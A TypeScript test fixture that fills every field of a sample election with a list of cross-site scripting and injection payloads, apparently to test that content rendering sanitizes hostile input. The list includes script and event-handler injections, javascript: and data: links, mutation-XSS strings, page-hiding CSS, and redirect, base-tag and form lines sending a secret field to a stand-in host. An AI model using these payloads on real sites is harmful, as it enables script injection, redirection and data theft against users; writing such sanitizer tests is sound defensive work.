import type { Content, Text } from "../../sdk/election/content.ts";

/** Each tries to run `window.hostile = true`, to load from elsewhere, or to pass for the page's own parts. */
export const PAYLOADS: readonly string[] = [
  "<script>window.hostile=true</script>",
  '<img src=x onerror="window.hostile=true">',
  '<svg onload="window.hostile=true"><circle r="9"/></svg>',
  '<iframe srcdoc="<script>parent.hostile=true</script>"></iframe>',
  "[click](javascript:window.hostile=true)",
  "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT10cnVlPC9zY3JpcHQ+)",
  '<a href="javascript:window.hostile=true" autofocus onfocus="window.hostile=true">click</a>',
  "![picture](https://elsewhere.example/pixel.png)",
  '<link rel="stylesheet" href="https://elsewhere.example/style.css">',
  "<style>body{display:none}</style>",
  '<form action="https://elsewhere.example/"><input name="secret"><button>vote</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hostile=true">',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=true>">',
  '"><img src=x onerror=window.hostile=true>',
  "{{constructor.constructor('window.hostile=true')()}}",
  '<div id="main" style="position:fixed;inset:0" data-theme="light" class="notice notice-danger">not the page</div>',
  '<base href="https://elsewhere.example/">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
];

const hostile = (payloads: readonly string[], between = "\n\n"): Text => ({
  ko: payloads.join(between),
  en: payloads.join(between),
});
/** Titles and names are one line. */
const hostileLine = (payloads: readonly string[]) => hostile(payloads, " ");

/** An election with every payload in every field of its content. */
export const hostileContent: Content = {
  language: "ko",
  title: { ...hostileLine(PAYLOADS), vi: `Tiếng Việt ${PAYLOADS.join(" ")}` },
  // In its own language alone.
  question: { ko: PAYLOADS.join("\n\n") },
  options: [0, 1, 2].map((index) => ({
    title: hostileLine([String(index), ...PAYLOADS]),
    description: hostile(PAYLOADS),
  })),
  arguments: (["for", "against"] as const).map((side) => ({
    side,
    text: hostile(PAYLOADS),
    by: hostileLine(PAYLOADS),
  })),
  test: { reasons: [hostileLine(PAYLOADS)] },
};
